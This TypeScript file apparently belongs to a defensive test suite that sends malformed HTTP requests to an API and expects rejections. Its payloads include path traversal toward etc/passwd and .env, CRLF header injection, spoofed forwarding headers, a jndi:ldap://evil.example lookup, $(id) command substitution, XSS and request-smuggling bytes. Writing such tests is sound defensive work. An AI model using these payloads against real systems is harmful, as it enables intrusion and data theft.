import { METHODS } from "node:http";
import { type Attack, byGateway, byServer, ignored } from "../attack.ts";
import { canaries } from "../canaries.ts";
import type { Scene } from "../scene.ts";
import { methodsOf, reachesAny, type Target, waits } from "../targets.ts";

/** All that Node's parser lets through, but for the one that asks for a tunnel. */
const SENDABLE = METHODS.filter((method) => method !== "CONNECT");

/** Methods that the path does not have. */
export function methodAttacks(target: Target, scene: Scene): Attack[] {
  const good = scene.good(target);
  return SENDABLE.filter((method) => !methodsOf(target.path).includes(method)).map((method) => ({
    name: `method ${method}`,
    request: { ...good, method },
    expected: byGateway(404),
  }));
}

/** Paths that look like the operation's and are not. Each keeps `/api/` in front: what does not is the dashboard's. */
const PATHS: Readonly<Record<string, (path: string) => string>> = {
  "with a slash behind": (path) => `${path}/`,
  "with two slashes behind": (path) => `${path}//`,
  "with an escaped slash behind": (path) => `${path}%2F`,
  "with an escaped slash for a slash": (path) => path.replace(/\/([^/]*)$/, "%2F$1"),
  "with a double slash": (path) => path.replace("/api/", "/api//"),
  "with a dot segment": (path) => path.replace("/api/", "/api/./"),
  "with a step up and back": (path) => path.replace("/api/", "/api/x/../"),
  "with an escaped step up": (path) => path.replace("/api/", "/api/x/%2e%2e/"),
  "with a twice escaped step up": (path) => path.replace("/api/", "/api/%252e%252e/api/"),
  "with a backslash": (path) => path.replace(/\/([^/]*)$/, "\\$1"),
  "with an escaped backslash": (path) => path.replace(/\/([^/]*)$/, "%5C$1"),
  "with a parameter behind a semicolon": (path) => `${path};jsessionid=1`,
  "with NUL behind": (path) => `${path}%00`,
  "with an extension": (path) => `${path}%00.json`,
  "with a space behind": (path) => `${path}%20`,
  "with a line feed and a header": (path) => `${path}%0d%0aSet-Cookie:%20stolen=1`,
  "with a broken escape": (path) => `${path}%zz`,
  "with half an escape": (path) => `${path}%`,
  "with bytes that are no UTF-8": (path) => `${path}%ff%fe`,
  "with overlong UTF-8": (path) => `${path}%c0%af`,
  "with a right-to-left mark": (path) => `${path}%E2%80%8F`,
  "with a fragment": (path) => `${path}%23`,
  "with a wildcard": (path) => `${path}*`,
  "with a segment more": (path) => `${path}/..%2f..%2fetc%2fpasswd`,
  "with itself behind": (path) => `${path}${path}`,
  "in capitals": (path) => `/api${path.slice(4).toUpperCase()}`,
  "with a version": (path) => path.replace("/api/", "/api/v1/"),
  "with a stage": (path) => path.replace("/api/", "/api/$default/"),
  "with a dot behind": (path) => `${path}.`,
  "with a comma behind": (path) => `${path},`,
  "with an ampersand": (path) => `${path}&limit=1`,
  "with an escaped question mark": (path) => `${path}%3Flimit=1`,
  "with an emoji": (path) => `${path}%F0%9F%92%B8`,
  "with a letter of another script": (path) => path.replace("a", "%D0%B0"),
  "with a full-width slash": (path) => path.replace(/\/([^/]*)$/, "%EF%BC%8F$1"),
  "with a tab behind": (path) => `${path}%09`,
  "with a colon behind": (path) => `${path}:80`,
  "with a plus behind": (path) => `${path}+`,
  "with a host behind": (path) => `${path}@evil.example`,
  "with a bracket behind": (path) => `${path}[0]`,
  "with a soft hyphen": (path) => `${path}%C2%AD`,
  "with a prototype": (path) => `${path}/__proto__`,
  "with a hidden file": (path) => `${path}/.env`,
  "with a repository": (path) => `${path}/.git/config`,
  "of 4,000 segments": (path) => `${path}${"/a".repeat(4_000)}`,
  "of 8,000 characters": (path) => `${path}/${"a".repeat(8_000)}`,
};

export function pathAttacks(target: Target, scene: Scene): Attack[] {
  const good = scene.good(target);
  const [path = ""] = good.path.split("?");
  return (
    Object.entries(PATHS)
      .map(([what, change]) => [what, change(path)] as const)
      // Some are another operation's by now, or below `/` the dashboard's.
      .filter(([, spoilt]) => spoilt.startsWith("/api/") && !reachesAny(spoilt))
      .map(([what, spoilt]) => ({
        name: `path ${what}`,
        request: { ...good, path: spoilt },
        expected: byGateway(404),
        marks: ["stolen=1", "etc%2fpasswd"],
      }))
  );
}

/** Headers that some program somewhere obeys. None of them changes an answer. */
const HEADERS: Readonly<Record<string, readonly [string, string]>> = {
  "another method": ["X-HTTP-Method-Override", "DELETE"],
  "another path": ["X-Original-URL", "/api/health"],
  "another path by rewriting": ["X-Rewrite-URL", "/api/health"],
  "another address": ["X-Forwarded-For", "127.0.0.1, ::1, evil.example"],
  "another host": ["X-Forwarded-Host", "evil.example"],
  "another scheme": ["X-Forwarded-Proto", "file"],
  "another origin": ["Origin", "https://evil.example"],
  "no origin": ["Origin", "null"],
  "another referrer": ["Referer", "https://evil.example/?token=canary-forged-token"],
  "another user": ["X-User-Id", "somebody.else"],
  "another claim": ["X-Amzn-Oidc-Data", "canary-forged-token"],
  "another request context": ["X-Amzn-Request-Context", '{"authorizer":{"jwt":{"claims":{"sub":"other"}}}}'],
  "a trace id": ["X-Amzn-Trace-Id", "Root=1-$(id)"],
  "another request id": ["X-Request-Id", "canary-forged-token"],
  "a user agent with a lookup": ["User-Agent", "$\u007bjndi:ldap://evil.example/a}"],
  "a user agent with markup": ["User-Agent", "<script>alert(1)</script>"],
  "a user agent that is a customer": ["User-Agent", `${canaries.name} ${canaries.phone}`],
  "a range": ["Range", "bytes=0-1"],
  "many ranges": ["Range", `bytes=${"0-,".repeat(500)}`],
  "a condition": ["If-None-Match", "*"],
  "a time": ["If-Modified-Since", "yesterday"],
  "a cookie": ["Cookie", "token=canary-forged-token; __proto__=1"],
  "a cookie without sense": ["Cookie", ";;;=;="],
  "a language": ["Accept-Language", "../../../etc/passwd"],
  "an encoding": ["Accept-Encoding", "gzip;q=0, evil"],
  "a page": ["Accept", "text/html"],
  "a table of no quality": ["Accept", "text/csv;q=0"],
  "a table of more than every quality": ["Accept", "text/csv;q=9e9"],
  "media types without sense": ["Accept", ",;q=,/,*/"],
  "1,000 media types": ["Accept", "text/x;q=0.1,".repeat(400)],
  "an upgrade": ["Upgrade", "h2c"],
  "a prototype": ["__proto__", "admin"],
  "a constructor": ["constructor", "admin"],
  "Latin-1": ["X-Name", "Jos\u00e9"],
  "a long value": ["X-Long", "x".repeat(6_000)],
};

/** The request itself, with something about it. Only where asking twice is harmless. */
export function headerAttacks(target: Target, scene: Scene): Attack[] {
  const good = scene.good(target);
  const [path = ""] = good.path.split("?");
  const too = (headers: readonly (readonly [string, string])[]) => ({ ...good, headers: [...good.headers, ...headers] });
  const odd = Object.entries(HEADERS).map(
    ([what, header]): Attack => ({ name: `header: ${what}`, request: too([header]), expected: ignored, marks: [header[1]] }),
  );
  return [
    ...(target.method === "GET" ? odd.slice(0, waits(target) ? 3 : undefined) : []),
    { name: "a header of 11 KB", request: too([["x-large", "x".repeat(11_000)]]), expected: byGateway(431) },
    { name: "a header of 60 KB", request: too([["x-large", "x".repeat(60_000)]]), expected: byGateway(431) },
    {
      name: "800 headers",
      request: too(Array.from({ length: 800 }, (_, n) => [`x-header-${n}`, "value"] as const)),
      expected: byGateway(431),
    },
    {
      name: "300 headers of one name",
      request: too(Array.from({ length: 300 }, () => ["x-same", "x".repeat(40)] as const)),
      expected: byGateway(431),
    },
    { name: "a cookie of 11 KB", request: too([["cookie", `a=${"x".repeat(11_000)}`]]), expected: byGateway(431) },
    { name: "a header name of 11 KB", request: too([["x".repeat(11_000), "1"]]), expected: byGateway(431) },
    { name: "a token of 11 KB", request: too([["authorization", `Bearer ${"x".repeat(11_000)}`]]), expected: byGateway(431) },
    { name: "a query of 11 KB", request: { ...good, path: `${path}?x=${"x".repeat(11_000)}` }, expected: byGateway(431) },
    { name: "2,000 query parameters", request: { ...good, path: `${path}?${"aa=11&".repeat(2_000)}` }, expected: byGateway(431) },
  ];
}

/** What an operation that takes no input is sent all the same: HTTP has it that nobody looks. */
const EXTRAS: Readonly<Record<string, string>> = {
  "a query": "?owner=canary.owner%40wallet.example",
  "a query without a name": "?=1",
  "a query twice": "?a=1&a=2",
  "a query of a prototype": "?__proto__[admin]=1&constructor=1",
  "a query with a header": "?a=%0d%0aSet-Cookie:%20stolen=1",
  "a query of NUL": "?a=%00",
  "a query of broken escapes": "?%zz=%",
  "a query of no UTF-8": "?%ff=%fe",
  "a query with a page": "?a=<script>alert(1)</script>",
  "a query of 5,000 characters": `?a=${"x".repeat(5_000)}`,
  "a query of questions": "????",
  "a query with a path": "?../../etc/passwd",
};

export function extraAttacks(target: Target, scene: Scene): Attack[] {
  if (target.method !== "GET" || waits(target)) return [];
  const good = scene.good(target);
  const bodies: readonly (readonly [string, string | Buffer])[] = [
    ["an empty object", "{}"],
    ["broken JSON", "{"],
    ["another owner", JSON.stringify({ owner: canaries.owner, sub: canaries.owner })],
    ["bytes", Buffer.from([0, 255, 254, 1])],
    ["a message", canaries.message],
  ];
  return [
    ...(target.query.length === 0
      ? Object.entries(EXTRAS).map(
          ([what, query]): Attack => ({
            name: `extra: ${what}`,
            request: { ...good, path: good.path + query },
            expected: ignored,
            marks: ["stolen=1", "alert(1)"],
          }),
        )
      : []),
    ...bodies.map(
      ([what, body]): Attack => ({
        name: `extra: a body of ${what}`,
        request: { ...good, headers: [...good.headers, ["content-type", "application/json"]], body },
        expected: ignored,
      }),
    ),
  ];
}

/** Bytes that are no HTTP request. `$` stands for the method and path, `@` for the host. */
const WIRE: Readonly<Record<string, string>> = {
  "a space before the colon": "$ HTTP/1.1\r\nHost: @\r\nX-A : 1\r\n\r\n",
  "a header without a colon": "$ HTTP/1.1\r\nHost: @\r\nnonsense\r\n\r\n",
  "a header without a name": "$ HTTP/1.1\r\nHost: @\r\n: 1\r\n\r\n",
  "NUL in a header": "$ HTTP/1.1\r\nHost: @\r\nX-A: a\u0000b\r\n\r\n",
  "a carriage return in a header": "$ HTTP/1.1\r\nHost: @\r\nX-A: a\rSet-Cookie: stolen=1\r\n\r\n",
  "a name of other characters": "$ HTTP/1.1\r\nHost: @\r\nX(A): 1\r\n\r\n",
  "a version that is none": "$ HTTP/9.9\r\nHost: @\r\n\r\n",
  "another protocol": "$ FTP/1.1\r\nHost: @\r\n\r\n",
  "a method that is none": "STEAL /api/health HTTP/1.1\r\nHost: @\r\n\r\n",
  "a method in lower case": "get /api/health HTTP/1.1\r\nHost: @\r\n\r\n",
  "no host": "$ HTTP/1.1\r\nX-A: 1\r\n\r\n",
  "a negative length": "$ HTTP/1.1\r\nHost: @\r\nContent-Length: -1\r\n\r\n",
  "a length in words": "$ HTTP/1.1\r\nHost: @\r\nContent-Length: ten\r\n\r\n",
  "two lengths": "$ HTTP/1.1\r\nHost: @\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
  "a length and chunks": "$ HTTP/1.1\r\nHost: @\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
  "chunks and a length": "$ HTTP/1.1\r\nHost: @\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n",
  "a space in the path": "GET /api/health x HTTP/1.1\r\nHost: @\r\n\r\n",
};

export function wireAttacks(target: Target, scene: Scene): Attack[] {
  const good = scene.good(target);
  const { host } = new URL(scene.runtime.url);
  return Object.entries(WIRE).map(([what, bytes]) => ({
    name: `wire: ${what}`,
    request: Buffer.from(bytes.replace("$", () => `${good.method} ${good.path}`).replaceAll("@", host), "latin1"),
    expected: byServer(400),
    marks: ["stolen=1"],
  }));
}
